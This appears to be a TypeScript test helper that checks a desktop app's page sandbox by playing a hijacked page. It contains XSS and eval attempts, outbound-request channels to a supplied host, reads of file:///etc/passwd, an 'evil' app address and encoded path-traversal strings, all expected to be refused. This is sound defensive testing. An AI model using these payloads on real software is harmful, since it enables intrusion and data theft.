// What a page taken over tries, as functions that run inside the page. The same in both shells. Each says what became
// of its attempts; whether something really left is for the listeners to say.

export async function reachOut(host: string): Promise<Record<string, string>> {
  const outcome = (promise: Promise<unknown>): Promise<string> =>
    Promise.race([
      promise.then(
        () => 'reached',
        () => 'refused',
      ),
      new Promise<string>((resolve) => setTimeout(() => resolve('refused'), 3000)),
    ]);
  const loads = (element: HTMLElement): Promise<unknown> =>
    new Promise((resolve, reject) => Object.assign(element, { onload: resolve, onerror: reject }));
  const embeds = (tag: string, attributes: Record<string, string>): Promise<unknown> => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    const loaded = loads(element);
    document.head.append(element);
    return loaded;
  };
  const opens = (target: EventTarget): Promise<unknown> =>
    new Promise((resolve, reject) => Object.assign(target, { onopen: resolve, onerror: reject }));
  const script = async (): Promise<unknown> => {
    const element = document.createElement('script');
    element.src = `http://${host}/script.js`;
    const loaded = loads(element);
    document.head.append(element);
    return loaded;
  };
  navigator.sendBeacon(`http://${host}/beacon`, 'x');
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'])
    void embeds('link', { rel, as: 'script', href: `http://${host}/${rel}` }).catch(() => undefined);
  return {
    http: await outcome(fetch(`http://${host}/`)),
    nocors: await outcome(fetch(`http://${host}/`, { mode: 'no-cors' })),
    file: await outcome(fetch('file:///etc/hostname')),
    image: await outcome(embeds('img', { src: `http://${host}/i.png` })),
    style: await outcome(embeds('link', { rel: 'stylesheet', href: `http://${host}/s.css` })),
    script: await outcome(script()),
    socket: await outcome((async () => opens(new WebSocket(`ws://${host}/`)))()),
    events: await outcome((async () => opens(new EventSource(`http://${host}/`)))()),
    worker: await outcome(
      (async () => {
        const worker = new Worker(`http://${host}/w.js`);
        return new Promise((resolve, reject) => Object.assign(worker, { onmessage: resolve, onerror: reject }));
      })(),
    ),
  };
}
export const NOTHING_REACHED = {
  http: 'refused',
  nocors: 'refused',
  file: 'refused',
  image: 'refused',
  style: 'refused',
  script: 'refused',
  socket: 'refused',
  events: 'refused',
  worker: 'refused',
};

/** A form is posted by leaving the page: the listeners say whether it left. */
export function postForm(host: string): void {
  const form = document.createElement('form');
  form.action = `http://${host}/form`;
  form.method = 'post';
  document.body.append(form);
  form.submit();
}

export async function askStun(port: number): Promise<void> {
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
  } catch {
    // Refused by the policy: as good.
  }
}

export async function runText(): Promise<Record<string, string>> {
  // Later, because the debugger that carries this function in lifts the ban on eval while it runs.
  await new Promise((resolve) => setTimeout(resolve, 10));
  const attempt = (act: () => unknown): string => {
    try {
      act();
      return 'ran';
    } catch {
      return 'refused';
    }
  };
  const inline = document.createElement('script');
  attempt(() => {
    inline.textContent = 'window.inlineRan = true';
  });
  document.head.append(inline);
  const button = document.createElement('button');
  attempt(() => button.setAttribute('onclick', 'window.handlerRan = true'));
  button.click();
  const globals = globalThis as unknown as Record<string, unknown>;
  return {
    // biome-ignore lint/security/noGlobalEval: this is the attack
    evaluated: attempt(() => globalThis.eval('1')),
    built: attempt(() => new Function('return 1')()),
    timer: attempt(() => setTimeout('window.timerRan = true' as never)),
    markup: attempt(() => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.markupRan = true">';
    }),
    blobWorker: attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
    inline: globals.inlineRan === undefined ? 'refused' : 'ran',
    handler: globals.handlerRan === undefined ? 'refused' : 'ran',
  };
}
export const NOTHING_RAN = {
  evaluated: 'refused',
  built: 'refused',
  timer: 'refused',
  markup: 'refused',
  blobWorker: 'refused',
  inline: 'refused',
  handler: 'refused',
};

export const ELSEWHERE = [
  'https://example.com/',
  'http://127.0.0.1:9/',
  'file:///etc/passwd',
  'app://workstation.evil/',
  'app://other/index.html',
  'data:text/html,x',
  'https://example.com/?app://workstation/',
];

/** Tries to take the window to an address; false where a new window came of it. */
export function leaveTo(address: string): boolean {
  window.location.href = address;
  Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'opener' }).click();
  return window.open(address) === null;
}

export async function permissionStates(): Promise<Record<string, string>> {
  const state = async (name: string): Promise<string> => (await navigator.permissions.query({ name: name as PermissionName })).state;
  const refused = (promise: Promise<unknown>): Promise<string> =>
    promise.then(
      () => 'granted',
      () => 'denied',
    );
  return {
    location: await state('geolocation'),
    notifications: await state('notifications'),
    camera: await refused(navigator.mediaDevices.getUserMedia({ video: true })),
    screen: await refused(navigator.mediaDevices.getDisplayMedia({ video: true })),
  };
}

/** Statuses of addresses that name files outside the pages' folder; an address the browser cannot even parse counts as 404. */
export function fetchStatuses(addresses: readonly string[]): Promise<readonly number[]> {
  return Promise.all(
    addresses.map((address) =>
      fetch(address).then(
        (answer) => answer.status,
        () => 404,
      ),
    ),
  );
}
export const TRAVERSALS = [
  '/../shell/main.cjs',
  '/%2e%2e/shell/main.cjs',
  '/..%2fshell/main.cjs',
  '/..%5cshell/main.cjs',
  '/%2e%2e%2f%2e%2e%2fpackage.json',
  '/%252e%252e%252fpackage.json',
  '/page.js%00.html',
  '//etc/passwd',
  '/.hidden.json',
  '/C:/x.json',
  '/link.json',
  '/folder.json',
];
